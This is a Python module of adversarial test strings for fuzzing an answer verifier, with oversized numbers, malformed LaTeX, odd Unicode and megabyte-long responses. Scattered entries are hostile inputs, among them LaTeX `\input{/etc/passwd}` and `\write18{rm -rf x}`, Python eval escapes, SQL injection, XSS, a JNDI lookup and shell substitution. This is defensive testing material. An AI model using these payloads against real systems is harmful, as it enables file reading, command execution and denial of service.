"""Strings made to hang, crash, bloat or fool a verifier. None of them is a right answer to anything here."""

import itertools
import random

MEGABYTE = 1_000_000


def answers() -> dict[str, str]:
    """Hostile answers by name, as they would stand in a box."""
    return _HAND_MADE | _code() | _sized() | _wrapped() | _huge() | _garbled()


def responses() -> dict[str, str]:
    """Hostile whole responses by name: attacks on whatever looks for the answer in one."""
    found = {f"a megabyte of {name}": piece * (MEGABYTE // len(piece)) for name, piece in _MARKS.items()}
    for name, piece in _MARKS.items():
        found[f"words of {name}"] = f"{piece} " * (100_000 // len(piece))
        found[f"lines of {name}"] = f"{piece}\n" * (100_000 // len(piece))
        for filler in (" ", "\n", "*", "$", "，", "\\ ", " is "):
            found[f"{name}, {filler!r} many times"] = f"{piece}7{filler * (60_000 // len(filler))}x"
    for (first, one), (second, other) in itertools.permutations(_MARKS.items(), 2):
        found[f"{first} and {second}"] = (one + other) * (10_000 // len(one + other))
    return found | _ALMOST


_HAND_MADE = {
    "tower": "9^{9^{9^{9^{9}}}}",
    "plain tower": "9**9**9**9",
    "left tower": "((((9^9)^9)^9)^9)^9",
    "tower of fractions": r"(\frac{1}{9})^{-9^{9^{9}}}",
    "tower in a root": r"\sqrt[9^{9^9}]{9^{9^9}}",
    "tower in a logarithm": r"\log(9^{9^{9^9}})",
    "tower in a modulus": r"9^{9^{9^9}} \bmod 7",
    "negative tower": "-9^{-9^{9^9}}",
    "tower of e": r"e^{e^{e^{e^{10}}}}",
    "tower of x": "x^{x^{x^{x^{x^{999}}}}}",
    "factorials": "9!!!!!!!!!!",
    "nested factorials": "(((((9!)!)!)!)!)!",
    "huge factorial": "999999999!",
    "factorial of a power": "(10^{10^{10}})!",
    "factorial of a fraction": r"\left(\frac{99999}{7}\right)!",
    "ratio of factorials": r"\frac{99999999!}{99999998!}",
    "huge exponent": "2^{999999999999}",
    "huge base": "(10^{3000})^{3000}",
    "tiny": "10^{-999999999}",
    "tiny float": "1e-999999999",
    "huge float": "1e999999999",
    "huge float, negative": "-1E+99999999999999999999",
    "huge root": r"\sqrt[99999999999]{2}",
    "tiny root": r"\sqrt[0.0000000001]{2}",
    "zeroth root": r"\sqrt[0]{2}",
    "huge binomial": r"\binom{999999999}{499999999}",
    "binomial of binomials": r"\binom{\binom{\binom{99}{49}}{9}}{9}",
    "huge cosine": r"\cos(10^{10^{10}})",
    "huge sine": r"\sin(2^{99999})",
    "huge remainder": r"10^{10^{9}} \mod 997",
    "base of a megabyte": "1" * 2_900 + "_{2}",
    "base zero": "101_0",
    "base one": "111_1",
    "huge base of digits": "zz_{99999999999}",
    "huge percent": "9" * 2_000 + r"\%",
    "integral tower": r"\int_0^1 x^{9^{9^{9^{9}}}} dx",
    "huge sum": r"\sum_{k=1}^{10^{12}} \sin(k^k)",
    "huge product": r"\prod_{k=1}^{10^{9}} k^{k}",
    "endless sum": r"\sum_{k=1}^{\infty} \frac{\sin k!}{k}",
    "nested sums": r"\sum_{i=1}^{999}" * 12 + "i",
    "nested integrals": r"\int_0^x " * 40 + r"e^{-x^2}" + " dx" * 40,
    "hard integral": r"\int_0^1 \sqrt{\tan(\sin(x^x))} dx",
    "hard limit": r"\lim_{x \to 0} x^{x^{x^{\sin(1/x)}}}",
    "limit of sums": r"\lim_{n \to \infty} \sum_{k=1}^{n} \frac{n^{k}}{k!}",
    "derivative": r"\frac{d^{999}}{dx^{999}} e^{x^{x^x}}",
    "continued": "1+" + r"\cfrac{1}{1+" * 200 + "1" + "}" * 200,
    "wide matrix": r"\begin{pmatrix}" + "1&" * 1_400 + r"1\end{pmatrix}",
    "tall matrix": r"\begin{pmatrix}" + r"1\\" * 900 + r"1\end{pmatrix}",
    "matrix": r"\begin{pmatrix}" + r"1&2\\" * 300 + r"3&4\end{pmatrix}",
    "matrix power": r"\begin{pmatrix}1&1\\1&0\end{pmatrix}^{999999999}",
    "determinant": r"\det\begin{pmatrix}" + r"a&b&c&d&e&f&g&h\\" * 8 + r"\end{pmatrix}",
    "matrices in matrices": r"\begin{pmatrix}" * 100 + "1" + r"\end{pmatrix}" * 100,
    "system": r"\begin{cases}" + r"x^2+y^2=1\\" * 100 + r"\end{cases}",
    "brackets": "(" * 100_000,
    "closing brackets": ")" * 100_000,
    "mixed brackets": "([{" * 900,
    "interval of intervals": "[(" * 400 + "1,2" + ")]" * 400,
    "unclosed set": r"\{1,2,\{3,\{4",
    "unclosed": r"\frac{1}{",
    "unclosed root": r"\sqrt[3]{",
    "unclosed text": r"\text{5",
    "unclosed environment": r"\begin{pmatrix} 1 & 2",
    "crossed environments": r"\begin{pmatrix}1\begin{cases}2\end{pmatrix}\end{cases}",
    "unknown environment": r"\begin{" + "a" * 1_000 + r"}1\end{" + "a" * 1_000 + "}",
    "ends only": r"\end{pmatrix}",
    "left only": r"\left(" * 500,
    "right only": r"\right)" * 500,
    "left without bracket": r"\left\left\right5\right",
    "alignment": "&" * 1_000 + r"\\" * 500,
    "dollars": "$" * 2_901,
    "backslashes": "\\" * 2_901,
    "lone backslash": "\\",
    "lone command": r"\frac",
    "fractions without braces": r"\frac" * 500 + "12",
    "powers without base": "^" * 1_000,
    "double powers": "x^2^2^2^2^2^2^2^2",
    "subscripts": "x_" * 900,
    "primes": "f" + "'" * 2_900,
    "input": r"\input{/etc/passwd}",
    "write": r"\write18{rm -rf x}",
    "definition": r"\def\x{\x\x}\x",
    "new command": r"\newcommand{\a}{\a\a}\a",
    "loop": r"\loop\iftrue\repeat",
    "character code": r"\char`\^^M \catcode`\{=12",
    "nan": r"\frac{0}{0}",
    "nan in words": "nan",
    "infinity": r"\infty - \infty",
    "infinite product": r"0 \cdot \infty",
    "imaginary tower": "i^{i^{i^{i^{i^{i}}}}}",
    "log of base one": r"\log_{1} 5",
    "log of zero": r"\log 0",
    "log of logs": r"\log" * 300 + "x",
    "arcsin outside": r"\arcsin(99999^{999})",
    "tangent at its pole": r"\tan\frac{\pi}{2}",
    "every letter": "".join(map(chr, range(32, 127))),
    "digits in words": "5five",
    "number words": "nine hundred " * 200,
    "chained": "5=6=7=5=8" * 100,
    "chained inequalities": "1<2<3<4<5<" * 200 + "6",
    "equation of a megabyte": "x=" + "y+" * 499_999 + "1",
    "or": "5 or " * 500,
    "plus or minus": r"\pm" * 500 + "5",
    "nested plus or minus": r"(1\pm" * 20 + "1" + ")" * 20,
    "plus or minus in a set": r"\{" + r"\pm 1," * 400 + "1" + r"\}",
    "product of plus or minus": r"(1\pm\sqrt{2})" * 60,
    "unions": r"(0,1)\cup" * 300 + "(1,2)",
    "builder": r"\{x : x > " * 50 + "1" + r"\}" * 50,
    "range": "1,2,\\ldots," * 100 + "9999999999",
    "huge range": r"\{1, 2, 3, \ldots, 10^{12}\}",
    "permutations of a set": r"\{" + ",".join(f"x+{n}" for n in range(300)) + r"\}",
    "an expanded power": "(x+y+z+w)^{900}",
    "a product of sums": r"(a+b+c)(d+e+f)(g+h+k)(l+m+n)(p+q+r)(s+t+u)" * 8,
    "a long division": r"\frac{x^{999}-1}{x-1}",
    "difference of near numbers": "10^{2000}+1-10^{2000}",
    "dates": "2023-99-99T99:99:99.999999999Z",
    "ratio": ":".join(["1"] * 900),
    "units": "5 " + "cm" * 1_000,
    "units to a power": r"5\text{ m}^{" + "9" * 900 + "}",
    "currencies": r"\$€£¥" * 500 + "5",
    "degrees": "5" + r"^\circ" * 500,
    "percent": "5" + "%" * 1_000,
    "commas": "," * 2_900,
    "points": "." * 2_900,
    "points in digits": "1.2" * 900,
    "thousands": "1" + ",000" * 700,
    "wrong thousands": "1" + ",00" * 700,
    "spaces in digits": "1 " * 1_400,
    "signs": "-" * 2_000 + "5",
    "plus and minus": "+-" * 1_000 + "5",
    "bars": "|" * 2_000,
    "absolute values": "|1|" * 400,
    "floors": r"\lfloor" * 300 + "5.5" + r"\rfloor" * 300,
    "stars": "*" * 2_900,
    "slashes": "1" + "/1" * 700,
    "zero divided": "1/0",
    "zero divided, hidden": r"\frac{5}{2^{10}-1024}",
    "exclamations": "!" * 2_900,
    "nulls": "\x00" * 1_000,
    "controls": "\x00\x01\x02\x1b[31m5\x7f",
    "terminal title": "\x1b]0;owned\x07" * 100,
    "backspaces": "6\b5",
    "carriage returns": "6\r5",
    "line separators": "6\u2028\u20295",
    "directions": "\u202e5\u202c6",
    "isolates": "\u2066" * 500 + "6" + "\u2069" * 500,
    "byte order marks": "\ufeff" * 500 + "6",
    "joiners": "6" + "\u200d\u200b\u2060" * 300 + "5",
    "combining": "6" + "\u0301" * 2_000,
    "surrogate": "\ud800",
    "surrogates": "\udc00\ud800" * 300,
    "private use": "\ue000" * 500,
    "past the planes": "\U0010ffff" * 500,
    "emoji": "🧮" * 500,
    "keycap": "6\ufe0f\u20e3",
    "Arabic digits": "٦٧٨" * 300,
    "mathematical digits": "𝟞𝟟𝟠" * 300,
    "superscripts": "6" + "⁹" * 1_000,
    "circled": "⑥" * 1_000,
    "Roman": "ⅯⅯⅯ" * 500,
    "ligature that grows": "\ufdfa" * 2_000,
    "fractions in one sign": "⅞" * 900,
    "Turkish capitals": "İ" * 2_900,
    "sharp s": "ß" * 2_900,
}


def _code() -> dict[str, str]:
    """What an `eval` would run."""
    lines = (
        "__import__('os').system('sleep 9')",
        "().__class__.__bases__[0].__subclasses__()",
        "(lambda: 5)()",
        "(lambda f: f(f))(lambda f: f(f))",
        "sympy.factorial(10**9)",
        "exec('while 1: pass')",
        "[x for x in iter(int, 1)]",
        "open('/dev/zero').read()",
        "exit()",
        "raise SystemExit",
        "5 if 1 else 6",
        "{5!r}",
        "{0.__class__}",
        "%s%n%x",
        "`sleep 9`",
        "$(sleep 9)",
        "'; DROP TABLE answers; --",
        "<script>alert(5)</script>",
        "${jndi:ldap://x/y}",
        "<!ENTITY a '&a;&a;'>",
        "max(range(10**12))",
        "sum(x for x in range(10**12))",
        "9 .__pow__(9**9)",
        "Integer(9)**Integer(9)**9",
        "Symbol('x').subs({x: 5})",
        r"\operatorname{eval}(\text{exit()})",
        "True",
        "None",
        "NotImplemented",
        "float('nan')",
        "0x" + "f" * 2_000,
        "1_000_000",
        "1j",
        "not 6",
        "x := 6",
        "@",
    )
    return {f"code {line[:24]}": line for line in lines}


def _sized() -> dict[str, str]:
    """One piece many times over: within what is read, and a megabyte of it."""
    pieces = (
        "1", "9", "0", "a", "x+", "x-", "2*", "-1+", "x^", "x^2+", "(x+1)", "x,", "5,", "5;", "(5,6),", r"\frac{1}{2}+",
        r"\sqrt2", r"\cdot", r"\times 3", r"\pi", r"\sin ", r"\frac", r"\text{a}", r"\left(", r"\infty,", r"\pm 5,",
        r"\{5\},", "|x|", "5!", "5 or ", "5=", "x<", "½", "π", "一", "5%", "$5$", r"\,", " ", "\t", "\n", "~", "e^",
        r"\binom{9}{4}", r"\log_2", "1e9,", "0.1", "i+", "a_1", "f(", "A", "B, ", "五", "and ",
    )  # fmt: skip
    found = {}
    for piece in pieces:
        found[f"{piece!r} to the limit"] = (piece * (2_900 // len(piece)))[:2_900]
        found[f"a megabyte of {piece!r}"] = piece * (MEGABYTE // len(piece))
    return found


def _wrapped() -> dict[str, str]:
    """Deep nesting around a number, closed as it should be."""
    pairs = {
        "brackets": ("(", ")"), "square brackets": ("[", "]"), "braces": ("{", "}"), "sets": (r"\{", r"\}"),
        "fractions": (r"\frac{1}{", "}"), "fractions above": (r"\frac{", "}{2}"), "roots": (r"\sqrt{", "}"),
        "powers": ("2^{", "}"), "indices": ("x_{", "}"), "texts": (r"\text{", "}"), "boxes": (r"\boxed{", "}"),
        "sines": (r"\sin(", ")"), "absolute values": (r"\left|", r"\right|"), "floors": (r"\lfloor ", r"\rfloor "),
        "logarithms": (r"\log_{2}{", "}"), "negated": ("-(", ")"), "inverses": ("1/(", ")"), "tuples": ("(1,", ")"),
        "overlines": (r"\overline{", "}"), "factorials": ("(", ")!"), "functions": ("f(", ")"),
        "sums": ("(1+", ")"), "products": ("2(", ")"), "binomials": (r"\binom{9}{", "}"),
        "integrals": (r"\int_0^{", "} x dx"),
    }  # fmt: skip
    found = {}
    for name, (opening, closing) in pairs.items():
        for depth in (30, 120):
            found[f"{depth} {name}"] = opening * depth + "6.7" + closing * depth
        found[f"unclosed {name}"] = opening * 400 + "6.7"
        found[f"20,000 {name}"] = opening * 20_000 + "6.7" + closing * 20_000
    return found


def _huge() -> dict[str, str]:
    """Numbers whose digits nobody should write out."""
    big = "9" * 900
    parts = (f"{big}*{big}*{big}", f"{big}^{{{big}}}", f"{big}!", rf"\sqrt[{big}]{{{big}}}", rf"\frac{{1}}{{{big}}}",
             f"0.{big}{big}{big}", f"{big}.{big}", f"{big}e{big}", rf"\binom{{{big}}}{{5}}", f"({big},{big},{big})",
             rf"{big}\frac{{{big}}}{{{big}}}", rf"\log_{{{big}}} {big}", f"{big}%", f"{big}_{{3}}", f"e^{{{big}}}",
             f"0^{{-{big}}}", rf"\sin {big}", rf"{big} \pm {big}", f"{big}<x<{big}", f"i^{{{big}}}")  # fmt: skip
    return {f"huge numbers {place}": part for place, part in enumerate(parts)}


def _garbled() -> dict[str, str]:
    """Random sequences of what formulas are made of."""
    tokens = [*r"0123456789xyzi+-*/^_=<>|!,;:.()[]{}%&~'", " ", "e", "π", "\\\\", "\x00", "½", "²", "，", "五",
              *(rf"\{name}" for name in ("frac", "sqrt", "left", "right", "text", "pi", "cup", "pm", "{", "}",
              "int", "sum", "begin{pmatrix}", "end{pmatrix}", "infty", "log", "sin", "binom", "circ",
              "le"))]  # fmt: skip
    random_ = random.Random(15)
    return {
        f"garbled {place}": "".join(random_.choices(tokens, k=random_.choice((8, 40, 300))))
        for place in range(80)
    }


_MARKS = {
    "boxes": r"\boxed{",
    "closed boxes": r"\boxed{}",
    "bare boxes": r"\boxed",
    "framed boxes": r"\fbox{",
    "answer tags": "<answer>",
    "closing tags": "</answer>",
    "empty tags": "<answer></answer>",
    "hashes": "####",
    "Chinese phrases": "答案是",
    "final Chinese phrases": "最终答案",
    "phrases": "The final answer is ",
    "starred phrases": "**Answer:** ",
    "stars": "**",
    "thinking": "<think>",
    "closing thinking": "</think>",
    "Kimi thinking": "◁think▷",
    "reasoning inside a sentence": "use <reasoning> ",
    "thinking in brackets": "[THINK]",
    "channels": "<|channel|>analysis<|message|>",
    "mentioned boxes": r"\boxed{answer} ",
    "bare boxes and words": r"\boxed as ",
    "braces": "{",
    "dollars": "$",
    "digits": "7",
    "groups of digits": "1,234",
    "sentence ends": "vs. ",
    "option letters": "(A) ",
    "answer words": "answer",
    "spaces": "   ",
}

_ALMOST = {
    "nested boxes": r"\boxed{" * 50_000 + "7" + "}" * 50_000,
    "boxes in tags": r"<answer>\boxed{" * 30_000 + "7",
    "one box after a megabyte": "x " * 500_000 + r"\boxed{",
    "an answer of a megabyte": r"\boxed{" + "7" * MEGABYTE + "}",
    "a tag of a megabyte": "<answer>" + "x" * MEGABYTE + "</answer>",
    "a hash line of a megabyte": "#### " + "7 " * 500_000,
    "a phrase of a megabyte": "The answer is " + "$" * MEGABYTE,
    "a phrase and spaces": "The answer" + " " * MEGABYTE + "is 7",
    "escaped braces": r"\boxed{" + r"\{\}" * 300_000,
    "escapes": r"\boxed{" + "\\" * MEGABYTE,
    "a surrogate": "\\boxed{\ud800}",
    "nothing but controls": "".join(map(chr, range(32))) * 10_000,
    "an empty response": "",
    "null in a mark": "\\bo\x00xed{7} <ans\x00wer>7",
    "a turned mark": "\u202e}7{dexob\\",
    "wide marks": "＼ｂｏｘｅｄ｛７｝",
    "thinking to no end": "<think>" * 100_000 + r"\boxed{7}",
    "thinking inside out": "</think><think>" * 60_000 + "7",
}
